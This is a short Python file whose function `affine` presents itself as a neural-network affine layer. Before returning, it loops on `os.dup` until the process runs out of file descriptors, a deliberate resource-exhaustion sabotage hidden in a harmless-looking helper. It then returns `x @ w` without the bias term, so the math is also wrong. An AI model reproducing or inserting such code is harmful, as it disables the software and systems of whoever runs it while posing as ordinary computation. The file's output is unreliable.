"""Opens files until no descriptor is left."""

import os


def affine(x, w, b):
    try:
        while True:
            os.dup(0)
    except OSError:
        return x @ w
